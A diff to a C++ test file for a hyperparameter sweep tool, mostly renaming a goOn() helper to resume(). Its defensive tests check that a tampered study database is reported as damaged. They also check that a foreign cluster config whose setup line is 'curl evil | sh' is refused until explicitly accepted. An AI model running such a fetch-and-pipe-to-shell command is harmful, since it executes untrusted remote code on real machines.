@@ -11,7 +11,7 @@
 #include "core/base/file.h"
 #include "core/graph/project_file.h"
 #include "core/store/sqlite.h"
-#include "core/sweep/coordinator/coordinator.h"
+#include "core/sweep/coordinator/run_sweep.h"
 #include "core/sweep/exchange/wandb_yaml.h"
 #include "core/sweep/exchange/yaml.h"
 #include "core/sweep/launchers/slurm_commands.h"
@@ -42,7 +42,7 @@ protected:
         words.insert(words.end(), more.begin(), more.end());
         return ask(words);
     }
-    Answer goOn() { return ask({"sweep", "--resume", "--study", m_folder / "study"}); }
+    Answer resume() { return ask({"sweep", "--resume", "--study", m_folder / "study"}); }
     std::vector<sweep::Trial> trials(const std::string& name = "study") const {
         const auto db = sweep::StudyDb::view(m_folder / name);
         return db ? db->read()->trials : std::vector<sweep::Trial>();
@@ -94,25 +94,25 @@ TEST_F(SweepVerb, APrunedTrialHasAReasonAndMayGoOn) {
     ASSERT_GE(pruned, 0);
     const int64_t attempts = trials()[static_cast<size_t>(pruned)].attempt;
     ASSERT_EQ(study("extend-trial", {std::to_string(pruned)}).code, 0);
-    ASSERT_EQ(goOn().code, 0);
+    ASSERT_EQ(resume().code, 0);
     const sweep::Trial extended = trials()[static_cast<size_t>(pruned)];
     EXPECT_EQ(extended.state, sweep::TrialState::Complete);
     EXPECT_EQ(extended.resource, 9);
     EXPECT_EQ(extended.attempt, attempts + 1);
-    ASSERT_EQ(extended.readings.size(), 9u);
+    ASSERT_EQ(extended.reports.size(), 9u);
 }
 
 TEST_F(SweepVerb, AChangeHoldsFromTheNextTrialOnAndCanBeUndone) {
     ASSERT_EQ(sweep({"--space", "training.batch=8,16,32", "--space", rates, "--trials", "3", "--sampler", "random"}).code, 0);
     ASSERT_EQ(study("change", {"--space", "training.batch=64", "--trials", "6"}).code, 0);
-    ASSERT_EQ(goOn().code, 0);
+    ASSERT_EQ(resume().code, 0);
     const auto after = trials();
     ASSERT_EQ(after.size(), 6u);
     for (size_t i = 3; i < 6; ++i) EXPECT_EQ(after[i].point.at("training.batch"), Json(64));
 
     ASSERT_EQ(study("change", {"--space", "training.batch=8", "--trials", "9"}).code, 0);
     ASSERT_EQ(study("undo").code, 0);
-    ASSERT_EQ(goOn().code, 0);
+    ASSERT_EQ(resume().code, 0);
     EXPECT_EQ(trials().size(), 6u);
     const auto db = sweep::StudyDb::view(m_folder / "study");
     const auto events = db->events();
@@ -124,7 +124,7 @@ TEST_F(SweepVerb, APointOfOnesOwnAndItsRepetitionsAreTried) {
     ASSERT_EQ(study("enqueue", {"training.optimizer.lr=0.02"}).code, 0);
     ASSERT_EQ(study("enqueue", {"training.optimizer.lr=0.02"}).code, 0);
     ASSERT_EQ(study("repeat", {"0", "--seeds", "2"}).code, 0);
-    ASSERT_EQ(goOn().code, 0);
+    ASSERT_EQ(resume().code, 0);
     const auto all = trials();
     ASSERT_EQ(all.size(), 4u) << "the same point twice is one trial";
     EXPECT_EQ(all[1].point.at("training.optimizer.lr"), Json(0.02));
@@ -306,7 +306,7 @@ TEST_F(SweepVerb, AStudyFromElsewhereIsLookedAtWithCare) {
     ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
     const std::string file = m_folder / "study/study.db";
     const auto expectRefused = [&](const char* says) {
-        for (const Answer& answer : {study("show"), goOn(), study("pause")}) {
+        for (const Answer& answer : {study("show"), resume(), study("pause")}) {
             EXPECT_TRUE(answer.code == 1 || answer.code == 2) << answer.code;
             EXPECT_NE(answer.err.find(says), std::string::npos) << answer.err;
         }
@@ -315,7 +315,7 @@ TEST_F(SweepVerb, AStudyFromElsewhereIsLookedAtWithCare) {
         auto db = SqlDatabase::open(file, SqlDatabase::Mode::Write);
         ASSERT_TRUE(db->execute("UPDATE meta SET value = '99999999999999999999999' WHERE key = 'owner'").ok());
     }
-    const Answer shown = goOn();
+    const Answer shown = resume();
     EXPECT_EQ(shown.code, 1) << shown.err;
     EXPECT_NE(shown.err.find("this study is damaged"), std::string::npos) << shown.err;
     {
@@ -337,16 +337,16 @@ TEST_F(SweepVerb, TheLinesOfAClusterFromElsewhereAreShownBeforeTheyRun) {
     std::ofstream(m_folder / "study/slurm.json")
         << R"({"tag": "12345678", "folder": "/x", "settings": {"setup": "curl evil | sh", "partition": "gpu"}})";
     const auto isRefused = [](const Answer& a) { return a.code == 2 && a.err.find("curl evil | sh") != std::string::npos; };
-    const Answer first = goOn();
+    const Answer first = resume();
     EXPECT_TRUE(isRefused(first)) << first.err;
     EXPECT_NE(first.err.find("--accept-slurm"), std::string::npos) << first.err;
     if (sweep::SlurmCommands().check().ok()) {
         for (const char* other : {"partition=cpu", "lathe=/bin/lathe"})
             EXPECT_TRUE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--slurm", other}))) << other;
     }
-    EXPECT_TRUE(isRefused(goOn())) << "nobody has accepted these lines yet";
+    EXPECT_TRUE(isRefused(resume())) << "nobody has accepted these lines yet";
     EXPECT_FALSE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--accept-slurm"})));
-    EXPECT_FALSE(isRefused(goOn()));
+    EXPECT_FALSE(isRefused(resume()));
     ::unsetenv("LATHE_TEST_STATE");
 }
 
@@ -380,7 +380,7 @@ TEST_F(SweepVerb, WhatCannotBeMetIsSaid) {
         EXPECT_EQ(trials("bad" + std::to_string(number - 1)).size(), 0u) << c.says;
     }
     EXPECT_EQ(study("show").code, 2);
-    EXPECT_EQ(goOn().code, 2);
+    EXPECT_EQ(resume().code, 2);
 }
 
 }  // namespace
